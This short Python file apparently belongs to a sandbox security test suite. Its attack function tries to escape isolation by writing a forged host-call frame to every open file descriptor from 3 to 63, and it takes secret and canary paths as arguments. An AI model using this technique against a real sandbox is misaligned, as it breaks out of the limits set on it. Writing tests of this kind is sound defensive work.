# mypy: ignore-errors
# ruff: noqa: SIM105
# Technique: forge a host-call wire frame by writing raw bytes to the worker's socket fd.
import os


def attack(secret_path, canary_path):
    for fd in range(3, 64):
        try:
            os.write(fd, b"\x00\x00\x00\x10forged")
        except OSError:
            pass
